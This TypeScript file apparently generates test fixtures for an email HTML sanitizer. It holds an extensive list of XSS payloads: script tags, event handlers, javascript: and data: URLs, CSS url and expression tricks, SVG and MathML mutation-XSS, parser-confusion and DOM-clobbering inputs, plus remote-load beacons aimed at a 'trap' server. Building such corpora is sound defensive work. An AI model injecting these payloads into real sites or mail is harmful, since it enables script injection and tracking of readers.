/**
 * HTML as hostile mails carry it, by the classes that are published. Each one either runs `alert()` or asks `trap`, the
 * address of a server that must never be asked, where a reader gives it half a chance.
 */

export interface HostileHtml {
  /** Its class. */
  kind: string;
  html: string;
}

const JS = "alert(1)";
const entities = (text: string, form: "decimal" | "hex" | "bare"): string =>
  Array.from(text, (char) => {
    const code = char.charCodeAt(0);
    if (form === "decimal") return `&#${code};`;
    return form === "hex" ? `&#x${code.toString(16)};` : `&#${String(code).padStart(7, "0")}`;
  }).join("");
const base64 = (text: string): string => btoa(text);

type Make = (trap: string) => readonly string[];

const scripts: Make = (trap) => [
  `<script>${JS}</script>`,
  `<SCRIPT SRC=${trap}/script.js></SCRIPT>`,
  `<script/x src="${trap}/slash.js"></script >`,
  `<scr<script>ipt>${JS}</scr</script>ipt>`,
  `<<script>${JS}//<</script>`,
  `<script\u0000>${JS}</script>`,
  `<script type="module">import("${trap}/module.js")</script>`,
  `<svg><script>${JS}</script></svg>`,
  `<svg><script href="${trap}/svg.js" /></svg>`,
  `<script>${JS}`,
  `</textarea></title></style></noscript><script>${JS}</script>`,
];

const handlers: Make = () => [
  `<img src=x onerror=${JS}>`,
  `<img src=x onerror="&#97;lert(1)">`,
  `<img/src=x/onerror=${JS}>`,
  `<img src="x"onerror="${JS}">`,
  `<img src=\`x\` onerror=${JS}>`,
  `<IMG """><img src=x onerror=${JS}>">`,
  `<body onload=${JS}>`,
  `<p onmouseover=${JS} style="position:fixed;inset:0">over</p>`,
  `<details open ontoggle=${JS}><summary>s</summary></details>`,
  `<marquee onstart=${JS}>m</marquee>`,
  `<video autoplay onloadstart=${JS}><source src=x onerror=${JS}></video>`,
  `<audio src=x onerror=${JS}></audio>`,
  `<input autofocus onfocus=${JS}>`,
  `<select autofocus onfocus=${JS}></select>`,
  `<textarea autofocus onfocus=${JS}></textarea>`,
  `<div contenteditable tabindex=1 autofocus onfocus=${JS}>x</div>`,
  `<a href="#" onclick=${JS} onfocus=${JS} autofocus>x</a>`,
  `<b onanimationstart=${JS} style="animation:spin 1s"><style>@keyframes spin{}</style>x</b>`,
  `<p onpointerenter\u000b=${JS} onwheel=${JS}>x</p>`,
  `<custom-element onclick=${JS} onload=${JS}>x</custom-element>`,
  `<img src=x ONERROR\u000c=\n${JS}>`,
  `<xss onafterscriptexecute=${JS} onscrollend=${JS} style="overflow:auto;height:1px">x</xss>`,
];

const links: Make = (trap) => [
  `<a href="javascript:${JS}">x</a>`,
  `<a href="JaVaScRiPt:${JS}">x</a>`,
  `<a href=" \u0001javascript:${JS}">x</a>`,
  `<a href="java\tscript:${JS}">x</a>`,
  `<a href="java&NewLine;script&colon;${JS}">x</a>`,
  `<a href="${entities(`javascript:${JS}`, "decimal")}">x</a>`,
  `<a href="${entities(`javascript:${JS}`, "hex")}">x</a>`,
  `<a href="${entities(`javascript:${JS}`, "bare")}">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="data:text/html,<script>${JS}</script>">x</a>`,
  `<a href="data:text/html;base64,${base64(`<script>${JS}</script>`)}">x</a>`,
  `<a href="blob:null/${JS}">x</a>`,
  `<a href="view-source:javascript:${JS}">x</a>`,
  `<a href="https://ok.test" ping="${trap}/ping">x</a>`,
  `<a href="//${trap.replace(/^https?:\/\//, "")}/relative">x</a>`,
  `<map name=m><area shape=default href="javascript:${JS}"></map><img usemap=#m src=data:image/gif;base64,R0lGOA==>`,
  `<a xlink:href="javascript:${JS}" href="?">x</a>`,
];

const images: Make = (trap) => [
  `<img src="${trap}/pixel.gif" width=1 height=1>`,
  `<img srcset="${trap}/set.png 1x, ${trap}/set2.png 2x">`,
  `<picture><source srcset="${trap}/source.png"><img src=x></picture>`,
  `<img src="javascript:${JS}">`,
  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${JS}'><image href='${trap}/in.svg'/></svg>">`,
  `<img lowsrc="${trap}/low.gif" dynsrc="${trap}/dyn.gif">`,
  `<input type=image src="${trap}/input.png">`,
  `<table background="${trap}/table.png"><tr><td background="${trap}/cell.png">x</td></tr></table>`,
  `<body background="${trap}/body.png">x`,
  `<video poster="${trap}/poster.png" src="${trap}/video.mp4" autoplay></video>`,
  `<audio autoplay src="${trap}/audio.mp3"></audio>`,
  `<img data-remote-src="${trap}/own-attribute.png" src="${trap}/own.png">`,
  `<img data-cid="x" src="${trap}/with-cid.png">`,
  `<img loading=eager fetchpriority=high src=" ${trap}/space.png ">`,
  `<img src="\\\\${trap.replace(/^https?:\/\//, "")}/unc.png">`,
  `<image src="${trap}/image-element.png">`,
  `<track src="${trap}/track.vtt"><bgsound src="${trap}/sound.mid">`,
];

const css: Make = (trap) => [
  `<style>@import "${trap}/import.css";</style>`,
  `<style>@import url(${trap}/url.css); body{background:url(${trap}/style.png)}</style>`,
  `<div style="background:url(${trap}/inline.png)">x</div>`,
  `<div style="background:u\\72l('${trap}/escape.png')">x</div>`,
  `<div style="background:\\75\\72\\6c(${trap}/hex.png)">x</div>`,
  `<div style="background:url/**/(${trap}/comment.png)">x</div>`,
  `<div style="background-image:image-set('${trap}/set.png' 1x)">x</div>`,
  `<div style="background:-webkit-image-set(url(${trap}/webkit.png) 1x)">x</div>`,
  `<div style="width:expression(${JS});behavior:url(${trap}/x.htc);-moz-binding:url(${trap}/x.xml)">x</div>`,
  `<ul style="list-style:url(${trap}/list.png)"><li>x</ul>`,
  `<div style="cursor:url(${trap}/cursor.cur),auto">x</div>`,
  `<div style="content:url(${trap}/content.png);border-image:url(${trap}/border.png) 1">x</div>`,
  `<div style="filter:url(${trap}/filter.svg#f);mask:url(${trap}/mask.svg);clip-path:url(${trap}/clip.svg#c)">x</div>`,
  `<div style="--a:url(${trap}/var.png);background:var(--a)">x</div>`,
  `<style>@font-face{font-family:f;src:url(${trap}/font.woff)}p{font-family:f}</style><p>x</p>`,
  `<div style="background:src('${trap}/src.png');shape-outside:url(${trap}/shape.png)">x</div>`,
  `<div style='background:url("javascript:${JS}")'>x</div>`,
  `<p style="}</style><script>${JS}</script>">x</p>`,
  `<style><!--</style><img src=x onerror=${JS}>--></style>`,
  `<div style="position:fixed;inset:0;z-index:99999;background:#fff">cover</div>`,
];

const documents: Make = (trap) => [
  `<meta http-equiv=refresh content="0;url=${trap}/refresh">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${JS}">`,
  `<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="${trap}/policy.png">`,
  `<base href="${trap}/"><img src="base.png"><a href="x">x</a>`,
  `<link rel=stylesheet href="${trap}/link.css">`,
  `<link rel=preload as=image href="${trap}/preload.png"><link rel=prefetch href="${trap}/prefetch">`,
  `<link rel=dns-prefetch href="${trap}"><link rel=preconnect href="${trap}">`,
  `<link rel=modulepreload href="${trap}/m.js"><link rel=icon href="${trap}/icon.ico">`,
  `<link rel=manifest href="${trap}/manifest.json">`,
  `<html manifest="${trap}/cache"><body>x</body></html>`,
  `<form action="${trap}/form" id=f><input name=a value=b autofocus></form><script>f.submit()</script>`,
  `<button formaction="javascript:${JS}" form=f autofocus>x</button>`,
  `<iframe src="${trap}/frame"></iframe>`,
  `<iframe src="javascript:${JS}"></iframe>`,
  `<iframe srcdoc="<script>parent.${JS}</script><img src='${trap}/srcdoc.png'>"></iframe>`,
  `<frameset onload=${JS}><frame src="${trap}/frameset"></frameset>`,
  `<object data="${trap}/object.swf"></object>`,
  `<object data="data:text/html,<script>${JS}</script>"></object>`,
  `<embed src="${trap}/embed.svg"><applet code="${trap}/a.class"></applet>`,
  `<portal src="${trap}/portal"></portal><fencedframe src="${trap}/fenced"></fencedframe>`,
];

const foreign: Make = (trap) => [
  `<svg onload=${JS}></svg>`,
  `<svg/onload=${JS}>`,
  `<svg><animate onbegin=${JS} attributeName=x dur=1s></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${JS}" /><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${JS}'/></svg>#x"></svg>`,
  `<svg><image href="${trap}/svg-image.png" xlink:href="${trap}/svg-xlink.png"/></svg>`,
  `<svg><style>@import "${trap}/svg.css";</style></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${JS}</script>"></iframe></foreignObject></svg>`,
  `<svg><set attributeName=onmouseover to="${JS}"/><feImage href="${trap}/fe.png"/></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${JS}></style></mglyph></table></mtext></math>`,
  `<math><mi//xlink:href="data:x,<script>${JS}</script>">`,
  `<math><maction actiontype="statusline#x" xlink:href="javascript:${JS}">x</maction></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${JS}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${JS}>">`,
  `<math><annotation-xml encoding="text/html"><p><style><img src=x onerror=${JS}></style></p></annotation-xml></math>`,
  `<svg><title><style><img title="</style><img src=x onerror=${JS}>">`,
  `<svg><desc><noscript><img title="</noscript><img src=x onerror=${JS}>">`,
];

const confusion: Make = (trap) => [
  `<!--><img src=x onerror=${JS}>-->`,
  `<!--- --!><img src=x onerror=${JS}>-->`,
  `<![CDATA[><img src=x onerror=${JS}>]]>`,
  `<svg><![CDATA[</svg><img src=x onerror=${JS}>]]>`,
  `<?xml version="1.0"?><?php echo '><img src=x onerror=${JS}>' ?>`,
  `<!doctype x [<!ENTITY e SYSTEM "${trap}/entity"> <!ENTITY f "<img src=x onerror=${JS}>">]>&e;&f;`,
  `<template><img src=x onerror=${JS}></template>`,
  `<template shadowrootmode=open><img src=x onerror=${JS}><img src="${trap}/shadow.png"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${JS}>"></noscript>`,
  `<noembed><p title="</noembed><img src=x onerror=${JS}>"></noembed>`,
  `<xmp><p title="</xmp><img src=x onerror=${JS}>"></xmp>`,
  `<title><p title="</title><img src=x onerror=${JS}>"></title>`,
  `<plaintext><img src=x onerror=${JS}>`,
  `<p title="><img src=x onerror=${JS}>">x</p>`,
  `<p title='"><img src=x onerror=${JS}>'>x</p>`,
  `<a title="&quot;&gt;&lt;img src=x onerror=${JS}&gt;">x</a>`,
  `&lt;img src=x onerror=${JS}&gt; &amp;lt;script&amp;gt;${JS}&amp;lt;/script&amp;gt;`,
  `\uff1cscript\uff1e${JS}\uff1c/script\uff1e`,
  `<\u0130mg src=x onerror=${JS}><\u017fcript>${JS}</\u017fcript>`,
  `+ADw-script+AD4-${JS}+ADw-/script+AD4-`,
  `<ſvg onload=${JS}><p \u202eonclick=${JS}>x</p>`,
  `<img alt="<!--" src=x><img alt="--><img src=x onerror=${JS}>">`,
  `${"<div>".repeat(600)}<img src=x onerror=${JS}>`,
  `${"<b><i>".repeat(300)}<table><svg><style><img src=x onerror=${JS}>`,
  `<table><tr><td><table><caption><svg><script>${JS}</script>`,
  `<a href="x" href="javascript:${JS}" style="x" style="background:url(${trap}/second.png)">x</a>`,
  `<p/onclick=${JS}/x="/><img/src/onerror=${JS}>">x`,
];

const clobbering: Make = () => [
  `<form id=document><input name=cookie><input name=createElement></form>`,
  `<a id=location href="javascript:${JS}"></a><a id=location name=href href="javascript:${JS}"></a>`,
  `<img name=body><img name=head><form name=documentElement></form>`,
  `<form><input name=attributes><input name=nodeName><input name=parentNode onfocus=${JS} autofocus></form>`,
  `<iframe name=DOMPurify srcdoc="x"></iframe><p id=DOMPurify>x</p>`,
  `<a id=__proto__ name=constructor href="javascript:${JS}">x</a>`,
  `<dialog open><form method=dialog><button autofocus onfocus=${JS}>x</button></form></dialog>`,
  `<button popovertarget=p autofocus>x</button><div id=p popover onbeforetoggle=${JS}>x</div>`,
  `<slot name=x onslotchange=${JS}></slot><p slot=x is=x-y>x</p>`,
];

/** @param trap the address of a server, without a slash at the end */
export function hostileHtml(trap: string): HostileHtml[] {
  const kinds = { scripts, handlers, links, images, css, documents, foreign, confusion, clobbering };
  return Object.entries(kinds).flatMap(([kind, make]) => make(trap).map((html) => ({ kind, html })));
}
